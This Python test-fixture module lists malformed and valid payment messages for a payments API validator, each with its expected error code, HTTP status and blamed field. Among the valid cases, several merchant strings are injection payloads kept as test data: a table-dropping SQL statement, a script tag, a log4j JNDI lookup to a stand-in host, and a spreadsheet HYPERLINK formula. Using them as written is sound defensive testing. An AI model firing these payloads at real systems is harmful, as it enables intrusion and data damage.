"""Messages a payments topic or an API gets in real life, and what each must get: one table for every door.

`code` is empty where the message is a good payment; then `expect` says what its columns hold. `status` is the
HTTP status of the API; `field` is the contract's field to blame, empty where none is.
"""

import dataclasses
import gzip
import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

BROKER_TIME_US = 1_689_431_100_000_000  # 2023-07-15T14:25:00Z, when all these messages arrive

SAMPLE: dict[str, Any] = {
    "transaction_id": "txn_123456",
    "user_id": "user_789",
    "amount": 1500.00,
    "timestamp": "2023-07-15T14:22:35Z",
    "merchant": "Online Store",
    "location": "New York",
    "payment_method": "credit_card",
}
CARD = "4111 1111 1111 1111"  # Visa's public test number
CARD_DIGITS = CARD.replace(" ", "")


@dataclass(frozen=True)
class Case:
    name: str
    payload: bytes | None
    code: str = ""
    status: int = 0
    field: str = ""
    expect: dict[str, Any] = dataclasses.field(default_factory=dict)


def good(name: str, payload: bytes, **expect: Any) -> Case:
    return Case(name, payload, expect=expect)


def payment(**changes: Any) -> bytes:
    """The sample with some fields changed; `...` leaves a field out. Non-ASCII characters go as UTF-8."""
    fields = {name: value for name, value in {**SAMPLE, **changes}.items() if value is not ...}
    return json.dumps(fields, ensure_ascii=False).encode()


def raw(name: str, literal: str) -> bytes:
    """The sample with a field's JSON text replaced, whatever it is."""
    fields = {key: json.dumps(value) for key, value in SAMPLE.items()} | {name: literal}
    return ("{" + ", ".join(f'"{key}": {value}' for key, value in fields.items()) + "}").encode()


def with_text(extra: str) -> bytes:
    """The sample with some text before its closing brace."""
    return payment()[:-1] + extra.encode() + b"}"


def ahead(seconds: int) -> str:
    """The broker's time and so many seconds, as a timestamp."""
    moment = datetime.fromtimestamp(BROKER_TIME_US // 1_000_000, UTC) + timedelta(seconds=seconds)
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


DOCUMENTS = (
    Case("tombstone", None, "TOMBSTONE", 400),
    Case("empty", b"", "EMPTY", 400),
    Case("white space only", b" \t\r\n ", "EMPTY", 400),
    Case("null", b"null", "EMPTY", 400),
    Case("latin-1", payment(location="São Paulo").decode().encode("latin-1"), "NOT_UTF8", 400),
    Case("gzip", gzip.compress(payment(), mtime=0), "NOT_UTF8", 400),
    Case("utf-16 with byte order mark", payment().decode().encode("utf-16"), "NOT_UTF8", 400),
    Case("utf-16 without byte order mark", payment().decode().encode("utf-16-le"), "NOT_JSON", 400),
    Case("random bytes", bytes(range(128, 256)), "NOT_UTF8", 400),
    Case("surrogate as UTF-8 bytes", payment(merchant="X").replace(b'"X"', b'"\xed\xa0\x80"'), "NOT_UTF8", 400),
    Case("overlong UTF-8 slash", payment(merchant="X").replace(b'"X"', b'"\xc0\xaf"'), "NOT_UTF8", 400),
    Case("beyond the last character", payment(merchant="X").replace(b'"X"', b'"\xf4\x90\x80\x80"'), "NOT_UTF8", 400),
    Case("UTF-8 cut inside a character", payment() + b"\xe2\x82", "NOT_UTF8", 400),
    Case("avro magic byte and schema id", b"\x00\x00\x00\x00\x01" + payment(), "NOT_JSON", 400),
    Case("byte order mark", b"\xef\xbb\xbf" + payment(), "NOT_JSON", 400),
    Case("truncated", payment()[:-20], "NOT_JSON", 400),
    Case("truncated by one byte", payment()[:-1], "NOT_JSON", 400),
    Case("only a brace", b"{", "NOT_JSON", 400),
    Case("trailing garbage", payment() + b"x", "NOT_JSON", 400),
    Case("trailing NUL", payment() + b"\0", "NOT_JSON", 400),
    Case("two documents", payment() + payment(), "NOT_JSON", 400),
    Case("two documents on two lines", payment() + b"\n" + payment(), "NOT_JSON", 400),
    Case("line comment", with_text(" // paid"), "NOT_JSON", 400),
    Case("block comment", with_text(" /* paid */"), "NOT_JSON", 400),
    Case("single quotes", payment().replace(b'"', b"'"), "NOT_JSON", 400),
    Case("trailing comma", with_text(","), "NOT_JSON", 400),
    Case("key without quotes", payment().replace(b'"amount"', b"amount"), "NOT_JSON", 400),
    Case("missing comma", payment().replace(b", ", b" ", 1), "NOT_JSON", 400),
    Case("missing colon", payment().replace(b'"amount":', b'"amount"'), "NOT_JSON", 400),
    Case("missing value", raw("amount", ""), "NOT_JSON", 400),
    Case("python literal", raw("amount", "None"), "NOT_JSON", 400),
    Case("capital TRUE", raw("amount", "TRUE"), "NOT_JSON", 400),
    Case("leading zero", raw("amount", "01500"), "NOT_JSON", 400),
    Case("plus sign", raw("amount", "+1500"), "NOT_JSON", 400),
    Case("point without digits", raw("amount", "1500."), "NOT_JSON", 400),
    Case("point first", raw("amount", ".5"), "NOT_JSON", 400),
    Case("exponent without digits", raw("amount", "1e"), "NOT_JSON", 400),
    Case("hexadecimal", raw("amount", "0x10"), "NOT_JSON", 400),
    Case("thousands separator", raw("amount", "1_500"), "NOT_JSON", 400),
    Case("lone minus", raw("amount", "-"), "NOT_JSON", 400),
    Case("raw newline in a string", raw("merchant", '"a\nb"'), "NOT_JSON", 400),
    Case("raw NUL in a string", raw("merchant", '"a\0b"'), "NOT_JSON", 400),
    Case("unknown escape", raw("merchant", r'"a\xb"'), "NOT_JSON", 400),
    Case("short unicode escape", raw("merchant", r'"\u12"'), "NOT_JSON", 400),
    Case("brackets crossed", with_text(', "x": [1}'), "NOT_JSON", 400),
    Case("xml", b"<payment><amount>1500</amount></payment>", "NOT_JSON", 400),
    Case("csv", b"txn_123456,user_789,1500.00", "NOT_JSON", 400),
    Case("array at the top", b"[" + payment() + b"]", "NOT_OBJECT", 400),
    Case("string at the top", json.dumps(payment().decode()).encode(), "NOT_OBJECT", 400),
    Case("number at the top", b"1500.00", "NOT_OBJECT", 400),
    Case("true at the top", b"true", "NOT_OBJECT", 400),
    Case("nested 17 deep", with_text(', "x": ' + "[" * 16 + "]" * 16), "TOO_DEEP", 400),
    Case("nested 30,000 deep", b"[" * 30_000, "TOO_DEEP", 400),
    Case("over 64 KiB", with_text(f', "x": "{"a" * 65_536}"'), "TOO_LARGE", 413),
    Case("1,001 keys", b"{" + b",".join(b'"%d":0' % key for key in range(1_001)) + b"}", "TOO_LARGE", 413),
    Case("10,000 keys", b"{" + b",".join(b'"%d":0' % key for key in range(10_000)) + b"}", "TOO_LARGE", 413),
    Case("duplicate key, same value", with_text(', "amount": 1500.00'), "DUPLICATE_KEY", 422, "amount"),
    Case("duplicate key, other value", with_text(', "user_id": "user_1"'), "DUPLICATE_KEY", 422, "user_id"),
    Case("duplicate key in escapes", with_text(r', "\u0061mount": 1'), "DUPLICATE_KEY", 422, "amount"),
    Case("duplicate key outside the contract", with_text(', "x": 1, "x": 1'), "DUPLICATE_KEY", 422),
    Case("duplicate key after null", with_text(', "channel": null, "channel": "web"'), "DUPLICATE_KEY", 422, "channel"),
    Case("duplicate key in a nested object", with_text(', "x": [{"a": 1, "a": 2}]'), "DUPLICATE_KEY", 422),
    Case("lone surrogate in text", raw("merchant", r'"a\ud800b"'), "INVALID_UNICODE", 422, "merchant"),
    Case("lone low surrogate in an id", raw("user_id", r'"\udc00"'), "INVALID_UNICODE", 422, "user_id"),
    Case("surrogates in wrong order", raw("merchant", r'"\udc00\ud800"'), "INVALID_UNICODE", 422, "merchant"),
    Case("lone surrogate outside the contract", with_text(r', "x": "\ud83d"'), "INVALID_UNICODE", 422),
    Case("lone surrogate in a key", with_text(r', "\ud83d": 1'), "INVALID_UNICODE", 422),
)

NUMBERS = (
    Case("amount NaN", raw("amount", "NaN"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount Infinity", raw("amount", "Infinity"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount -Infinity", raw("amount", "-Infinity"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount 1e400", raw("amount", "1e400"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount -1e400", raw("amount", "-1e400"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount of 400 digits", raw("amount", "9" * 400), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("amount just beyond float64", raw("amount", "1.7976931348623159e308"), "NUMBER_NOT_FINITE", 422, "amount"),
    Case("NaN outside the contract", with_text(', "x": [NaN]'), "NUMBER_NOT_FINITE", 422),
    Case("amount the largest float64", raw("amount", "1.7976931348623157e308"), "RANGE", 422, "amount"),
    Case("amount as string", payment(amount="1500.00"), "TYPE", 422, "amount"),
    Case("amount as bool", payment(amount=True), "TYPE", 422, "amount"),
    Case("amount as object", payment(amount={"value": 1500}), "TYPE", 422, "amount"),
    Case("amount as array", payment(amount=[1500]), "TYPE", 422, "amount"),
    Case("amount negative", payment(amount=-1500.0), "RANGE", 422, "amount"),
    Case("amount zero", payment(amount=0), "RANGE", 422, "amount"),
    Case("amount negative zero", raw("amount", "-0.0"), "RANGE", 422, "amount"),
    Case("amount zero with a huge exponent", raw("amount", "0e999999999999999999999"), "RANGE", 422, "amount"),
    Case("amount above 1e12", raw("amount", "1000000000000.01"), "RANGE", 422, "amount"),
    Case("amount of 5 decimals", raw("amount", "1500.00001"), "PRECISION", 422, "amount"),
    Case("amount of binary arithmetic", raw("amount", "0.30000000000000004"), "PRECISION", 422, "amount"),
    Case("amount below 0.0001", raw("amount", "1e-400"), "PRECISION", 422, "amount"),
    Case("latitude beyond the pole", payment(latitude=90.1, longitude=0), "RANGE", 422, "latitude"),
    Case("longitude beyond 180", payment(latitude=0, longitude=-180.0000001), "RANGE", 422, "longitude"),
    Case("longitude of a huge exponent", raw("latitude", '0, "longitude": 1e300'), "RANGE", 422, "longitude"),
    Case("latitude as string", payment(latitude="40.7", longitude=0), "TYPE", 422, "latitude"),
    Case("latitude alone", payment(latitude=40.7), "FIELD_MISSING", 422, "longitude"),
    Case("longitude alone", payment(latitude=None, longitude=-74.0), "FIELD_MISSING", 422, "latitude"),
)

IDENTIFIERS = (
    *(Case(f"{name} missing", payment(**{name: ...}), "FIELD_MISSING", 422, name) for name in SAMPLE),
    *(Case(f"{name} null", payment(**{name: None}), "FIELD_MISSING", 422, name) for name in SAMPLE),
    Case("no field at all", b"{}", "FIELD_MISSING", 422, "transaction_id"),
    Case("field in other capitals", payment(user_id=..., User_Id="user_789"), "FIELD_MISSING", 422, "user_id"),
    Case("field inside another object", b'{"payment": ' + payment() + b"}", "FIELD_MISSING", 422, "transaction_id"),
    Case("id as number", payment(transaction_id=123456), "TYPE", 422, "transaction_id"),
    Case("user as array", payment(user_id=["user_789"]), "TYPE", 422, "user_id"),
    Case("merchant as object", payment(merchant={"name": "Online Store"}), "TYPE", 422, "merchant"),
    Case("location as bool", payment(location=False), "TYPE", 422, "location"),
    Case("id empty", payment(transaction_id=""), "ID_FORMAT", 422, "transaction_id"),
    Case("user blank", payment(user_id="   "), "ID_FORMAT", 422, "user_id"),
    Case("user of no-break spaces", payment(user_id="\u00a0\u3000"), "ID_FORMAT", 422, "user_id"),
    Case("user of nothing visible", payment(user_id="\u200b"), "ID_FORMAT", 422, "user_id"),
    Case("id of 129 characters", payment(transaction_id="x" * 129), "ID_FORMAT", 422, "transaction_id"),
    Case("user of 129 wide characters", payment(user_id="é" * 129), "ID_FORMAT", 422, "user_id"),
    Case("user with NUL", payment(user_id="user\0"), "ID_FORMAT", 422, "user_id"),
    Case("id with newline", payment(transaction_id="txn\n1"), "ID_FORMAT", 422, "transaction_id"),
    Case("id with DEL", payment(transaction_id="txn\x7f"), "ID_FORMAT", 422, "transaction_id"),
    Case("user with C1 control", payment(user_id="user\x85"), "ID_FORMAT", 422, "user_id"),
    Case("device blank", payment(device_id=" "), "ID_FORMAT", 422, "device_id"),
    Case("merchant empty", payment(merchant=""), "TEXT_FORMAT", 422, "merchant"),
    Case("location blank", payment(location=" \u2003"), "TEXT_FORMAT", 422, "location"),
    Case("merchant of 257 characters", payment(merchant="x" * 257), "TEXT_FORMAT", 422, "merchant"),
    Case("merchant of 60,000 characters", payment(merchant="x" * 60_000), "TEXT_FORMAT", 422, "merchant"),
    Case("merchant with NUL", payment(merchant="Shop\0"), "TEXT_FORMAT", 422, "merchant"),
    Case("payment method with tab", payment(payment_method="credit\tcard"), "TEXT_FORMAT", 422, "payment_method"),
    Case("channel empty", payment(channel=""), "TEXT_FORMAT", 422, "channel"),
    Case("currency in small letters", payment(currency="usd"), "TEXT_FORMAT", 422, "currency"),
    Case("currency sign", payment(currency="€"), "TEXT_FORMAT", 422, "currency"),
    Case("currency as number", payment(currency=840), "TYPE", 422, "currency"),
)

TIMES = (
    Case("time without zone", payment(timestamp="2023-07-15T14:22:35"), "TIME_NO_ZONE", 422, "timestamp"),
    Case(
        "time with fraction, without zone",
        payment(timestamp="2023-07-15T14:22:35.123"),
        "TIME_NO_ZONE",
        422,
        "timestamp",
    ),
    *(
        Case(f"time {text!r}", payment(timestamp=text), "TIME_FORMAT", 422, "timestamp")
        for text in (
            "",
            "2023-07-15",
            "2023-07-15 14:22:35Z",
            "2023-07-15T14:22Z",
            "2023-7-15T14:22:35Z",
            "15/07/2023 14:22:35 UTC",
            "20230715T142235Z",
            "2023-07-15T14:22:35+0000",
            "2023-07-15T14:22:35+00",
            "2023-07-15T14:22:35 Z",
            " 2023-07-15T14:22:35Z",
            "2023-07-15T14:22:35Z ",
            "2023-07-15T14:22:35.Z",
            "2023-07-15T14:22:35.1234567890Z",
            "2023-07-15T14:22:35,5Z",
            "2023-07-15T14:22:35UTC",
            "+02023-07-15T14:22:35Z",
            "２０２３-07-15T14:22:35Z",
            "1689430955",
            "1689430955000000000000",
            "now",
        )
    ),
    Case("epoch seconds", payment(timestamp=1_689_430_955), "TIME_FORMAT", 422, "timestamp"),
    Case("epoch milliseconds", payment(timestamp=1_689_430_955_000), "TIME_FORMAT", 422, "timestamp"),
    Case("time as object", payment(timestamp={"$date": "2023-07-15T14:22:35Z"}), "TYPE", 422, "timestamp"),
    *(
        Case(f"time {text!r}", payment(timestamp=text), "TIME_INVALID", 422, "timestamp")
        for text in (
            "2023-02-30T14:22:35Z",
            "2023-02-29T14:22:35Z",
            "1900-02-29T14:22:35Z",
            "2023-00-15T14:22:35Z",
            "2023-13-15T14:22:35Z",
            "2023-07-00T14:22:35Z",
            "2023-07-32T14:22:35Z",
            "2023-07-15T24:00:00Z",
            "2023-07-15T14:60:35Z",
            "2023-07-15T14:22:61Z",
            "2023-07-15T14:22:60Z",  # a leap second ends a month
            "2016-12-31T23:59:60+01:00",  # and does so in UTC
            "2023-07-15T14:22:35+24:00",
            "2023-07-15T14:22:35+02:60",
            "0000-01-01T00:00:00Z",
            "0001-01-01T00:00:00+00:01",
            "9999-12-31T23:59:59-00:01",
        )
    ),
    Case("time 5 minutes and a second ahead", payment(timestamp=ahead(301)), "TIME_FUTURE", 422, "timestamp"),
    Case("time in the year 2099", payment(timestamp="2099-01-01T00:00:00Z"), "TIME_FUTURE", 422, "timestamp"),
    Case("time in the year 9999", payment(timestamp="9999-12-31T23:59:59Z"), "TIME_FUTURE", 422, "timestamp"),
)

CARDS = (
    Case("card number in merchant", payment(merchant=f"Shop {CARD}"), "PAN_DETECTED", 422, "merchant"),
    Case("card number in location", payment(location=CARD_DIGITS), "PAN_DETECTED", 422, "location"),
    Case("card number with dashes", payment(merchant=CARD.replace(" ", "-")), "PAN_DETECTED", 422, "merchant"),
    Case("card number of 13 digits", payment(merchant="4222222222222"), "PAN_DETECTED", 422, "merchant"),
    Case("card number of 15 digits", payment(merchant="3782 822463 10005"), "PAN_DETECTED", 422, "merchant"),
    Case("card number of 19 digits", payment(merchant="6304000000000000000"), "PAN_DETECTED", 422, "merchant"),
    Case("card number behind another number", payment(merchant=f"24 {CARD}"), "PAN_DETECTED", 422, "merchant"),
    Case("card number between letters", payment(merchant=f"x{CARD_DIGITS}y"), "PAN_DETECTED", 422, "merchant"),
    Case("card number beside umlauts", payment(merchant=f"Bäckerei {CARD}"), "PAN_DETECTED", 422, "merchant"),
    Case(
        "card number in escapes",
        raw("merchant", '"' + "".join(f"\\u00{ord(digit):x}" for digit in CARD_DIGITS) + '"'),
        "PAN_DETECTED",
        422,
        "merchant",
    ),
    Case(
        "card number in full-width digits",
        payment(merchant="".join(chr(0xFEE0 + ord(digit)) for digit in CARD_DIGITS)),
        "PAN_DETECTED",
        422,
        "merchant",
    ),
    Case(
        "card number with no-break spaces",
        payment(merchant=CARD.replace(" ", "\u00a0")),
        "PAN_DETECTED",
        422,
        "merchant",
    ),
    Case("card number with en dashes", payment(location=CARD.replace(" ", "–")), "PAN_DETECTED", 422, "location"),
    Case(
        "card number in payment method", payment(payment_method=f"visa {CARD}"), "PAN_DETECTED", 422, "payment_method"
    ),
    Case("card number in channel", payment(channel=CARD), "PAN_DETECTED", 422, "channel"),
    Case("cvv field", payment(cvv="123"), "PAN_DETECTED", 422),
    Case("cvc field as number", payment(CVC=123), "PAN_DETECTED", 422),
    Case("security code in other spelling", payment(cardSecurityCode="123"), "PAN_DETECTED", 422),
    Case("cvv field in a nested object", payment(card={"cvv_2": "123"}), "PAN_DETECTED", 422),
    Case("cvv field in escapes", with_text(r', "\u0063vv": "123"'), "PAN_DETECTED", 422),
)

GOOD = (
    good(
        "the sample",
        payment(),
        transaction_id="txn_123456",
        user_id="user_789",
        amount=1500.0,
        event_time=utc("2023-07-15T14:22:35"),
        merchant="Online Store",
        location="New York",
        payment_method="credit_card",
        currency="USD",
        merchant_category=None,
        channel=None,
        device_id=None,
        latitude=None,
        longitude=None,
    ),
    good(
        "every optional field",
        payment(
            currency="EUR",
            merchant_category="groceries",
            channel="web",
            device_id="d-1",
            latitude=40.712776,
            longitude=-74.005974,
        ),
        currency="EUR",
        merchant_category="groceries",
        channel="web",
        device_id="d-1",
        latitude=40.712776,
        longitude=-74.005974,
    ),
    good("optional fields null", payment(currency=None, channel=None, latitude=None, longitude=None), currency="USD"),
    good("fields in reverse", json.dumps(dict(reversed(SAMPLE.items()))).encode(), user_id="user_789"),
    good(
        "white space everywhere",
        b" \t\r\n" + payment().replace(b'": ', b'"\r\n\t: ').replace(b', "', b' ,\n "').replace(b"}", b"\n}\n"),
        amount=1500.0,
    ),
    good("no white space", json.dumps(SAMPLE, separators=(",", ":")).encode(), amount=1500.0),
    good("line end behind it", payment() + b"\r\n", amount=1500.0),
    good("unknown fields", payment(x=1, notes={"a": [1, {"b": None}], "amount": -1}), amount=1500.0),
    good("nested 16 deep", with_text(', "x": ' + "[" * 15 + "]" * 15), amount=1500.0),
    good("1,000 keys", with_text("".join(f', "k{key}": 0' for key in range(993))), amount=1500.0),
    good("exactly 64 KiB", payment(x="a" * (65_536 - len(payment(x="")))), amount=1500.0),
    good("same key in two objects", payment(x={"amount": 1, "a": 2}, y={"amount": 2, "a": 1}), amount=1500.0),
    good("keys that differ in capitals", payment(note="a", Note="b", NOTE="c"), amount=1500.0),
    good("key in escapes", payment().replace(b"amount", rb"\u0061mo\u0075nt"), amount=1500.0),
    good(
        "escapes in text",
        raw("merchant", r'"Joe\u0027s \"Bar\" \\ Grill\/Caf\u00e9"'),
        merchant='Joe\'s "Bar" \\ Grill/Café',
    ),
    good("surrogate pair in escapes", raw("merchant", r'"\ud83c\udf55 Pizza"'), merchant="🍕 Pizza"),
    good("emoji as UTF-8", payment(merchant="🍕 Pizza"), merchant="🍕 Pizza"),
    good("text in other scripts", payment(merchant="東京ストア", location="Санкт-Петербург"), merchant="東京ストア"),
    good("decomposed text", payment(merchant="Cafe\u0301"), merchant="Café"),
    good("text that is longer decomposed", payment(merchant="e\u0301" * 256), merchant="é" * 256),
    good("text of letters with two accents", payment(merchant="e\u0302\u0301" * 256), merchant="ế" * 256),
    good("Hangul letters", payment(location="\u1112\u1161\u11ab"), location="한"),
    good("Angstrom sign", payment(merchant="\u212b"), merchant="Å"),
    good("id in another normal form is another id", payment(user_id="Cafe\u0301"), user_id="Cafe\u0301"),
    good("id of 128 characters", payment(transaction_id="x" * 128), transaction_id="x" * 128),
    good("id of 128 wide characters", payment(user_id="é" * 128), user_id="é" * 128),
    good("id with spaces around", payment(user_id=" user "), user_id=" user "),
    good("id of 16 digits that pass Luhn", payment(transaction_id=CARD_DIGITS), transaction_id=CARD_DIGITS),
    good("16 digits that do not pass Luhn", payment(merchant="4111111111111112"), merchant="4111111111111112"),
    good("12 digits", payment(merchant="Shop 422222222222"), merchant="Shop 422222222222"),
    good("20 digits", payment(merchant="41111111111111110000"), merchant="41111111111111110000"),
    good("digits divided by letters", payment(merchant="4111x1111x1111x1111"), merchant="4111x1111x1111x1111"),
    good("merchant of 256 characters", payment(merchant="x" * 256), merchant="x" * 256),
    good("SQL", payment(merchant="'; DROP TABLE decisions; --"), merchant="'; DROP TABLE decisions; --"),
    good("HTML", payment(merchant="<script>alert(1)</script>"), merchant="<script>alert(1)</script>"),
    good("log4j lookup", payment(merchant="${jndi:ldap://x/a}"), merchant="${jndi:ldap://x/a}"),
    good("spreadsheet formula", payment(merchant='=HYPERLINK("http://x")'), merchant='=HYPERLINK("http://x")'),
    good("text of the word null", payment(merchant="null", location="NaN"), merchant="null", location="NaN"),
    good("right-to-left override", payment(merchant="a\u202eb"), merchant="a\u202eb"),
    good("amount as integer", raw("amount", "1500"), amount=1500.0),
    good("amount with exponent", raw("amount", "1.5E+3"), amount=1500.0),
    good("amount 1e2", raw("amount", "1e2"), amount=100.0),
    good("amount with zeros behind the decimals", raw("amount", "1.50000"), amount=1.5),
    good("amount with fifty zeros", raw("amount", "1." + "0" * 50), amount=1.0),
    good("amount with a negative exponent", raw("amount", "15000000e-4"), amount=1500.0),
    good("amount that binary cannot hold", raw("amount", "0.1"), amount=0.1),
    good("smallest amount", raw("amount", "0.0001"), amount=0.0001),
    good("largest amount", raw("amount", "1000000000000"), amount=1e12),
    good("largest amount, written otherwise", raw("amount", "1.0E12"), amount=1e12),
    good("amount of 16 digits", raw("amount", "999999999999.9999"), amount=999999999999.9999),
    good(
        "latitude of 17 digits",
        raw("latitude", '40.712775999999998, "longitude": -74.0059745'),
        latitude=40.712775999999998,
    ),
    good("latitude of 30 digits", raw("latitude", '1.00000000000000000000000000001, "longitude": 0'), latitude=1.0),
    good("poles and date line", payment(latitude=-90, longitude=180.0), latitude=-90.0, longitude=180.0),
    good("latitude in exponents", raw("latitude", '4.07e1, "longitude": -7.4E-400'), latitude=40.7, longitude=0.0),
    good("latitude zero with exponent", raw("latitude", '0e50, "longitude": -0.0'), latitude=0.0),
    good("time with offset", payment(timestamp="2023-07-15T16:22:35+02:00"), event_time=utc("2023-07-15T14:22:35")),
    good("time with odd offset", payment(timestamp="2023-07-14T14:37:35-23:45"), event_time=utc("2023-07-15T14:22:35")),
    good(
        "time with offset -00:00", payment(timestamp="2023-07-15T14:22:35-00:00"), event_time=utc("2023-07-15T14:22:35")
    ),
    good("time in small letters", payment(timestamp="2023-07-15t14:22:35z"), event_time=utc("2023-07-15T14:22:35")),
    good("time of one decimal", payment(timestamp="2023-07-15T14:22:35.5Z"), event_time=utc("2023-07-15T14:22:35.5")),
    good(
        "time of nine decimals",
        payment(timestamp="2023-07-15T14:22:35.123456999Z"),
        event_time=utc("2023-07-15T14:22:35.123456"),
    ),
    good("time in escapes", raw("timestamp", r'"2023-07-15T14:22:35\u005a"'), event_time=utc("2023-07-15T14:22:35")),
    good("leap day", payment(timestamp="2020-02-29T23:59:59Z"), event_time=utc("2020-02-29T23:59:59")),
    good("leap day of a century", payment(timestamp="2000-02-29T00:00:00Z"), event_time=utc("2000-02-29T00:00:00")),
    good("leap second", payment(timestamp="2016-12-31T23:59:60Z"), event_time=utc("2017-01-01T00:00:00")),
    good(
        "leap second elsewhere",
        payment(timestamp="2017-01-01T00:59:60.5+01:00"),
        event_time=utc("2017-01-01T00:00:00.5"),
    ),
    good("before 2000", payment(timestamp="1999-12-31T23:59:59Z"), event_time=utc("1999-12-31T23:59:59")),
    good("before 1970", payment(timestamp="1901-01-01T00:00:00.000001Z"), event_time=utc("1901-01-01T00:00:00.000001")),
    good("the first year", payment(timestamp="0001-01-01T00:00:00Z"), event_time=utc("0001-01-01T00:00:00")),
    good("five minutes ahead", payment(timestamp=ahead(300)), event_time=utc("2023-07-15T14:30:00")),
    good("currency that is not the configured one", payment(currency="JPY"), currency="JPY"),
)

BAD = DOCUMENTS + NUMBERS + IDENTIFIERS + TIMES + CARDS
CASES = BAD + GOOD
